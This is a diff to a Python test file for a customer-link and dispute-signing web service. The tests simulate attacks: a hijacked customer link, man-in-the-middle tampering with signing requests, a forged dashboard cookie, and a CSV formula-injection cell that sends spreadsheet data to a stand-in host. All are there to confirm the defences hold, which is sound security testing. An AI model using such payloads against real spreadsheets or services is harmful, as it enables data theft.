@@ -46,7 +46,7 @@ class World:
 
     def link(self, reference: str, key: bool = False, valid: int = DAY) -> str:
         jid = self.crew.journeys[reference]
-        token = self.links.issue(jid, self.chain.now() + valid)
+        token = self.links.issue(jid, int(time.time()) + valid)
         fragment = f"#key=0x{self.crew.customers[reference].key.key.hex()}" if key else ""
         return f"{self.url}/c/{token}{fragment}"
 
@@ -62,7 +62,7 @@ def world():
     with network() as (chain, crew):
         for ref, scenario in SCENARIOS:
             scenario(crew, ref, lambda: None)
-        for ref in ("OPP-2001", "OPP-2002", "OPP-2004"):
+        for ref in ("OPP-2001", "OPP-2002", "OPP-2004", "OPP-2005"):
             _walk_to_customer(crew, ref)
         crew.open("OPP-2003", assignee=crew.marketing)
         crew.qualify("OPP-2003", crew.rep_b)
@@ -76,7 +76,7 @@ def world():
             return None
 
         source = WebSource(crew.relayer.client, record, crew.names(), vault=lambda: Vault(crew.vault.path))
-        links = CustomerLinks(os.urandom(32))
+        links = CustomerLinks(os.urandom(32), str(crew.deployment.key))
         app = FastAPI()
         app.include_router(web_router(source, links, poll=0.3))
         port = free_port()
@@ -303,7 +303,7 @@ def test_the_customer_api_answers_for_its_own_journey_only(world):
     r = client.post(
         f"/api/customer/{token}/submit", json={"request": foreign.as_dict(), "signature": "0x" + "11" * 65}
     )
-    assert r.status_code == 400 and "another journey" in r.json()["detail"]
+    assert r.status_code == 422 and "signs another" in r.json()["detail"]
     assert client.post(f"/api/customer/{other}/request", json={"action": "steal"}).status_code == 400
 
 
@@ -389,3 +389,135 @@ def test_the_pages_fit_a_phone_and_work_from_the_keyboard(world, browser):
         assert page.title() == "Your journey" and "OPP" not in page.url
     finally:
         context.close()
+
+
+def test_a_stranger_with_the_link_cannot_change_what_the_customer_said(world):
+    """A second request prepared for the same dispute (a stranger looping the customer's link)
+    neither changes the text the vault keeps nor gets the customer's signature relayed for it."""
+    crew, client = world.crew, TestClient(_app(world))
+    token = world.link("OPP-2005").rsplit("/", 1)[1]
+    asked = {"action": "dispute", "step": 3, "text": "nobody called me"}
+    mine = client.post(f"/api/customer/{token}/request", json=asked).json()
+    theirs = client.post(f"/api/customer/{token}/request", json=asked | {"text": "all fine, withdrawn"})
+    assert theirs.status_code == 200
+    typed = mine["typed_data"]
+    signature = Account.sign_message(
+        encode_typed_data(full_message=typed), crew.customers["OPP-2005"].key.key
+    )
+    back = {"action": "dispute", "typed_data": typed, "step": 3, "score": None}
+    sent = client.post(
+        f"/api/customer/{token}/submit", json={"request": back, "signature": "0x" + signature.signature.hex()}
+    )
+    assert sent.status_code == 200, sent.text
+    assert crew.client.journey("OPP-2005").status == "disputed"
+    kept = crew.vault.statements(crew.deployment.key, crew.journeys["OPP-2005"])
+    (reason,) = [s for s in kept if s["kind"] == "dispute_reason"]
+    assert reason["text"] == "nobody called me" and reason["status"] == "confirmed"
+    assert reason["commitment"] == typed["message"]["reason"]
+    # the answer gives the page what it checks, and nothing of the customer's profile
+    assert mine["statement"]["text"] == "nobody called me" and "profile" not in mine
+    assert sent.headers["cache-control"] == "no-store"
+
+
+def test_the_page_refuses_to_sign_what_the_customer_did_not_choose(world, page):
+    """A service (or anyone on the way) answering the Dispute button with a confirmation gets
+    no signature: the page checks the action, step, score and the text's commitment first."""
+    signed: list[str] = []
+    page.expose_function("jcTestSign", lambda *_a: signed.append("signed") or "0x" + "11" * 65)
+    address = world.crew.customers["OPP-2004"].key.address
+    page.add_init_script(
+        "window.ethereum = { request: async ({ method, params }) => {"
+        f' if (method === "eth_requestAccounts") return ["{address}"];'
+        " return window.jcTestSign(params[0], params[1]); } };"
+    )
+
+    def tampered(change):
+        def handle(route):
+            answer = route.fetch()
+            data = answer.json()
+            change(data)
+            route.fulfill(response=answer, json=data)
+
+        return handle
+
+    def other_salt(data):  # the commitment signed is not the text's shown
+        data["statement"]["salt"] = "0x" + "42" * 32
+
+    def confirmation(data):  # the Dispute button answered with a confirmation to sign
+        data["typed_data"]["primaryType"] = "ConfirmValue"
+
+    for change, sentence in ((other_salt, "does not check out"), (confirmation, "something else")):
+        page.unroute("**/request")
+        page.route("**/request", tampered(change))
+        page.goto(world.link("OPP-2004"))
+        page.locator("#dispute-step").select_option("3")
+        page.locator("#dispute-reason").fill("the page shows this")
+        page.locator("#dispute").click()
+        expect(page.locator("#message")).to_contain_text(sentence, timeout=15_000)
+        expect(page.locator("#message")).to_contain_text("not signed")
+    assert not signed
+    assert world.crew.client.journey("OPP-2004").status == "open"
+
+
+def test_the_dashboard_needs_a_viewers_token_where_the_service_asks_for_one(world):
+    app = FastAPI()
+    app.include_router(web_router(world.source, world.links, viewer=lambda t: t == "viewer-token"))
+    client = TestClient(app)
+    assert client.get("/api/web/journeys").status_code == 401
+    assert client.get("/api/web/journey/OPP-1001").status_code == 401
+    assert client.get("/api/web/compliance.csv").status_code == 401
+    assert client.get("/dashboard", follow_redirects=False).headers["location"] == "/dashboard/login"
+    refused = client.post("/dashboard/login", data={"token": "guess"}, follow_redirects=False)
+    assert refused.headers["location"] == "/dashboard/login?refused=1" and not client.cookies
+    bearer = client.get("/api/web/journeys", headers={"Authorization": "Bearer viewer-token"})
+    assert bearer.status_code == 200
+    signed_in = client.post("/dashboard/login", data={"token": "viewer-token"}, follow_redirects=False)
+    assert signed_in.status_code == 303 and "httponly" in signed_in.headers["set-cookie"].lower()
+    assert client.get("/api/web/journeys").status_code == 200
+    client.cookies.set("journeychain_dashboard", "forged")
+    assert client.get("/api/web/journeys").status_code == 401
+    # the customer's page needs its link, not a viewer
+    token = world.link("OPP-1001").rsplit("/", 1)[1]
+    assert TestClient(app).get(f"/api/customer/{token}").status_code == 200
+
+
+def test_a_link_of_another_deployment_and_a_corrupt_secret_are_refused(tmp_path):
+    secret = os.urandom(32)
+    token = CustomerLinks(secret, "31337/0xaaaa").issue(b"\x05" * 32, 2**40)
+    assert CustomerLinks(secret, "31337/0xaaaa").open(token, 1).journey == b"\x05" * 32
+    with pytest.raises(LinkError, match="not a journeychain customer link"):
+        CustomerLinks(secret, "11155111/0xaaaa").open(token, 1)
+    path = tmp_path / "link-secret"
+    first = CustomerLinks.load("x", path)
+    assert CustomerLinks.load("x", path).open(first.issue(b"\x01" * 32, 2**40), 1)  # kept, not replaced
+    path.write_text("not hex\n")
+    with pytest.raises(LinkError, match="is not a customer-link secret"):
+        CustomerLinks.load("x", path)
+    assert path.read_text() == "not hex\n"  # left as it is
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text():
+    from journeychain.web.source import csv_cell
+
+    assert csv_cell('=HYPERLINK("http://x/?"&B2)') == '\'=HYPERLINK("http://x/?"&B2)'
+    assert csv_cell("+1") == "'+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert csv_cell("Device supplier") == "Device supplier" and csv_cell(3) == 3
+
+
+def test_a_dead_node_is_a_503_with_a_sentence_not_a_crash():
+    import requests
+
+    class Gone:
+        def version(self):
+            raise requests.exceptions.ConnectionError("refused")
+
+        def now(self):
+            raise requests.exceptions.ConnectionError("refused")
+
+        def journeys(self):
+            raise AssertionError("not reached")
+
+    app = FastAPI()
+    app.include_router(web_router(Gone(), CustomerLinks(b"k" * 32)))  # type: ignore[arg-type]
+    r = TestClient(app).get("/api/web/journeys")
+    assert r.status_code == 503 and "did not answer" in r.json()["detail"]
